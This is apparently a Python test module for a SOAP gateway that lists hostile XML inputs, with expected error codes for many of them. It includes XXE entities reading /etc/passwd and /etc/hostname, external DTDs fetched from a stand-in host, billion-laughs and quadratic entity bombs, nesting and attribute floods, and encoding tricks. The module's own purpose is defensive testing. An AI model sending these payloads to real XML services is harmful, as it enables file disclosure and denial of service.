"""Attacks on the XML parser: entities, bombs, encodings (OWASP XML Security and XXE cheat sheets)."""

from __future__ import annotations

import codecs
from collections.abc import Callable
from typing import Final

from gateway.soap.versions import Version
from gateway.xml import namespaces
from tests.attacks.requests import LIST, PERSON, Attack, Sent, element, envelope


def _prolog(text: str) -> Callable[[Version], Sent]:
    return lambda v: Sent(envelope(v, prolog=text))


def _body(text: str, service: str = "journal") -> Callable[[Version], Sent]:
    return lambda v: Sent(envelope(v, text), service)


def _list(inside: str, attributes: str = "") -> Callable[[Version], Sent]:
    return _body(element("ListServices", inside, attributes=attributes))


def _doctype(subset: str, use: str = "&x;") -> Callable[[Version], Sent]:
    group = element("ListServices", f"<groupCode>{use}</groupCode>")
    return lambda v: Sent(envelope(v, group, prolog=f"<!DOCTYPE s [{subset}]>"))


def _encoded(codec: str, *, mark: bytes = b"", declared: str = "", charset: str = "") -> Callable[[Version], Sent]:
    """A right request in some encoding, named in the declaration, in the Content-Type, or nowhere."""
    prolog = f'<?xml version="1.0" encoding="{declared}"?>' if declared else ""

    def make(version: Version) -> Sent:
        text = envelope(version, LIST, prolog=prolog).decode()
        media_type = f"{version.media_type}; charset={charset}" if charset else version.media_type
        return Sent(mark + text.encode(codec), media_type=media_type)

    return make


def _cut(share: float) -> Callable[[Version], Sent]:
    def make(version: Version) -> Sent:
        whole = envelope(version)
        return Sent(whole[: int(len(whole) * share)])

    return make


_LAUGHS: Final = '<!ENTITY l0 "ha">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
_QUADRATIC: Final = f'<!ENTITY x "{"a" * 50_000}">'
_PARAMETER: Final = '<!ENTITY % p SYSTEM "http://192.0.2.1/p.dtd">%p;'
_NAMES: Final = " ".join(f'a{i}="{i}"' for i in range(60_000))
_SAME_HASH: Final = " ".join(f"{'a' * i}b='1'" for i in range(1, 1000))
_PREFIXES: Final = " ".join(f'xmlns:p{i}="urn:{i}"' for i in range(20_000))
_NESTED_PREFIXES: Final = "".join(f'<a xmlns:p{i}="urn:{i}">' for i in range(40)) + "</a>" * 40

ENTITIES: Final = [
    Attack("external entity: file", _doctype('<!ENTITY x SYSTEM "file:///etc/hostname">')),
    Attack("external entity: http", _doctype('<!ENTITY x SYSTEM "http://192.0.2.1/x">')),
    Attack("external entity: php filter", _doctype('<!ENTITY x SYSTEM "php://filter/resource=/etc/passwd">')),
    Attack("external entity: public id", _doctype('<!ENTITY x PUBLIC "a" "file:///dev/zero">')),
    Attack("external entity: in an attribute", _doctype('<!ENTITY x SYSTEM "file:///etc/hostname">', "<a b='&x;'/>")),
    Attack("external subset", _prolog('<!DOCTYPE s SYSTEM "http://192.0.2.1/s.dtd">')),
    Attack("external subset: local", _prolog('<!DOCTYPE s SYSTEM "file:///usr/share/xml/s.dtd">')),
    Attack("parameter entity", _doctype(_PARAMETER)),
    Attack("parameter entity: out of band", _doctype('<!ENTITY % a "<!ENTITY x SYSTEM \'file:///etc/passwd\'>">%a;')),
    Attack("unparsed entity", _doctype('<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "x.gif" NDATA n>', "")),
    Attack("billion laughs", _doctype(_LAUGHS, "&l9;")),
    Attack("billion laughs: in an attribute", _doctype(_LAUGHS, "<a b='&l9;'/>")),
    Attack("billion laughs: never used", _doctype(_LAUGHS, "")),
    Attack("billion laughs: with parameter entities", _doctype('<!ENTITY % a "%b;%b;"><!ENTITY % b "%a;">%a;')),
    Attack("quadratic blow-up", _doctype(_QUADRATIC, "&x;" * 5000)),
    Attack("entity that holds itself", _doctype('<!ENTITY x "&x;">')),
    Attack("entities that hold each other", _doctype('<!ENTITY x "&y;"><!ENTITY y "&x;">')),
    Attack("harmless DOCTYPE", _prolog("<!DOCTYPE s>")),
    Attack("DOCTYPE behind a comment", _prolog(f"<!-- {PERSON} --><!DOCTYPE s>")),
    Attack("DOCTYPE with a default attribute", _doctype('<!ATTLIST groupCode a CDATA "1">', "")),
    Attack("unknown entity", _list("<groupCode>&nbsp;</groupCode>")),
    Attack("reference to a forbidden character", _list("<groupCode>&#0;</groupCode>")),
    Attack("reference beyond Unicode", _list("<groupCode>&#x110000;</groupCode>")),
    Attack("processing instruction: before", _prolog(f"<?php {PERSON}?>")),
    Attack("processing instruction: inside", _list("<?a?>")),
    Attack("processing instruction: after", lambda v: Sent(envelope(v) + b"<?a?>")),
    Attack("stylesheet", _prolog('<?xml-stylesheet href="http://192.0.2.1/x.xsl"?>')),
    Attack("second XML declaration", _list('<?xml version="1.0"?>')),
    Attack("XInclude", _list('<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/hostname"/>'),
           "INVALID_REQUEST"),
    Attack("schemaLocation", _list("", f'xmlns:i="{namespaces.XSI}" i:schemaLocation="urn:x http://192.0.2.1/x.xsd"'),
           ""),
]  # fmt: skip

BOMBS: Final = [
    Attack("depth 17", _list("<a>" * 20 + "</a>" * 20)),
    Attack("depth 10 000", _list("<a>" * 10_000 + "</a>" * 10_000)),
    Attack("depth 100 000, never closed", _list("<a>" * 100_000)),
    Attack("depth 200 of namespaces", _list("".join(f'<a xmlns="urn:{i}">' for i in range(200)) + "</a>" * 200)),
    Attack("60 000 attributes", _list("", _NAMES)),
    Attack("1 000 attributes of growing names", _list("", _SAME_HASH)),
    Attack("100 attributes", _list("", " ".join(f'a{i}="1"' for i in range(100)))),
    Attack("20 000 namespaces", _list("", _PREFIXES)),
    Attack("40 namespaces in force", _list(_NESTED_PREFIXES)),
    Attack("90 000 empty items", _body(element("HoldPackets", "<packetIds>" + "<packetId/>" * 90_000 + "</packetIds>",
                                               "control"), "control")),
    Attack("1 300 000 empty items", _body(element("SubmitObjects", "<objects>" + "<object/>" * 1_300_000 + "</objects>",
                                                  "intake"), "intake")),
    Attack("1 300 000 empty items behind a comment", _body("<!-- -->" + "<a/>" * 1_300_000, "intake")),
    Attack("12 000 items", _body(element("HoldPackets", "<packetIds>" + "<packetId/>" * 12_000 + "</packetIds>",
                                         "control"), "control"), "TOO_MANY"),
    Attack("items above the limit of the operation",
           _body(element("ConfirmInbound", "<ids>" + "<id/>" * 6 + "</ids>", "intake"), "intake"), "TOO_MANY"),
    Attack("an attribute of 1 MB", _list("", f'a="{"x" * 1_000_000}"'), "INVALID_REQUEST"),
    Attack("a name of 1 MB", _list(f"<{'x' * 1_000_000}/>")),
    Attack("a text of 11 MB", _body(element("SubmitObjects", "x" * 11_000_000, "intake"), "intake"), "TOO_LARGE", 413),
    Attack("a CDATA of 11 MB", _body(element("SubmitObjects", f"<![CDATA[{'<' * 11_000_000}]]>", "intake"), "intake"),
           "INVALID_XML"),
    Attack("80 000 CDATA sections", _list("<groupCode>" + "<![CDATA[]]>" * 80_000 + "</groupCode>"), ""),
    Attack("100 000 comments", _list("<!---->" * 100_000), ""),
    Attack("a comment that never ends", _list("<!--" + "-" * 900_000)),
    Attack("100 000 character references", _list("<groupCode>" + "&#x430;" * 100_000 + "</groupCode>"), "NOT_FOUND"),
    Attack("a prolog of comments", _prolog("<!-- -->" * 100_000), ""),
    Attack("a prolog of blanks", _prolog("\n" * 1_000_000), ""),
    Attack("900 kB of mistakes", _list("<a b=c>" * 120_000)),
    Attack("a long path to every mistake", _list("<a><b><c/></b></a>" * 6_000), "INVALID_REQUEST"),
]  # fmt: skip

BROKEN: Final = [
    Attack("empty", lambda _: Sent(b"")),
    Attack("blanks", lambda _: Sent(b" \r\n\t ")),
    Attack("no XML", lambda _: Sent(b"hello")),
    Attack("JSON for XML", lambda _: Sent(b'{"ListServices": {}}')),
    Attack("zeros", lambda _: Sent(bytes(1000))),
    Attack("noise", lambda _: Sent(bytes(range(256)) * 100)),
    Attack("cut in the middle", _cut(0.5)),
    Attack("cut before the end", _cut(0.98)),
    Attack("something after the end", lambda v: Sent(envelope(v) + b"<a/>")),
    Attack("two envelopes", lambda v: Sent(envelope(v) * 2)),
    Attack("attribute given twice", _list("", 'a="1" a="2"')),
    Attack("attribute given twice through two prefixes", _list("", 'xmlns:p="u" xmlns:q="u" p:a="1" q:a="2"')),
    Attack("unbound prefix", _list("<p:a/>")),
    Attack("unbound prefix of the operation", _body("<p:ListServices/>")),
    Attack("tags crossed", _list("<a><b></a></b>")),
    Attack("bad characters in a name", _list("<1a/>")),
    Attack("surrogates in UTF-8", lambda v: Sent(envelope(v).replace(b"/>", b">\xed\xa0\x80</ListServices>", 1))),
    Attack("overlong UTF-8", lambda v: Sent(envelope(v).replace(b"<List", b"\xc0\xbcList"))),
    Attack("XML 1.1 control characters", _list("<groupCode>&#1;</groupCode>")),
    Attack("]]> in a text", _list("<groupCode>]]></groupCode>")),
]  # fmt: skip

ENCODINGS: Final = [
    Attack("UTF-8 with a mark", _encoded("utf-8", mark=codecs.BOM_UTF8), ""),
    Attack("UTF-16 with a mark", _encoded("utf-16"), ""),
    Attack("UTF-16 big-endian with a mark", _encoded("utf-16-be", mark=codecs.BOM_UTF16_BE), ""),
    Attack("UTF-16 by the header", _encoded("utf-16", charset="utf-16"), ""),
    Attack("UTF-16 declared, no mark", _encoded("utf-16-le", declared="utf-16"), ""),
    Attack("windows-1251 declared", _encoded("cp1251", declared="windows-1251"), ""),
    Attack("windows-1251 by the header", _encoded("cp1251", charset="windows-1251"), ""),
    Attack("header wins over declaration", _encoded("utf-8", declared="koi8-r", charset="utf-8"), ""),
    Attack("UTF-7 by the header", _encoded("utf-7", charset="utf-7"), "INVALID_REQUEST", 415),
    Attack("UTF-7 declared", _encoded("utf-8", declared="utf-7")),
    Attack("UTF-32 with a mark", _encoded("utf-32")),
    Attack("UCS-4 declared", _encoded("utf-8", declared="ucs-4")),
    Attack("EBCDIC declared", _encoded("cp037", declared="cp037")),
    Attack("a charset that is a Python module", _encoded("utf-8", charset="os"), "INVALID_REQUEST", 415),
    Attack("a charset that packs", _encoded("utf-8", charset="zlib"), "INVALID_REQUEST", 415),
    Attack("a declared name of a thousand letters", _encoded("utf-8", declared="a" * 1000), ""),
    Attack("UTF-8 declared, UTF-16 sent", lambda v: Sent(envelope(v).decode().encode("utf-16-le"))),
    Attack("not the charset of the header", lambda v: Sent(envelope(v).replace(b"/>", b">\xff</ListServices>", 1),
                                                           media_type=f"{v.media_type}; charset=utf-8")),
    Attack("not ASCII, as the header says", lambda v: Sent(envelope(v, PERSON),
                                                           media_type=f"{v.media_type}; charset=us-ascii")),
]  # fmt: skip
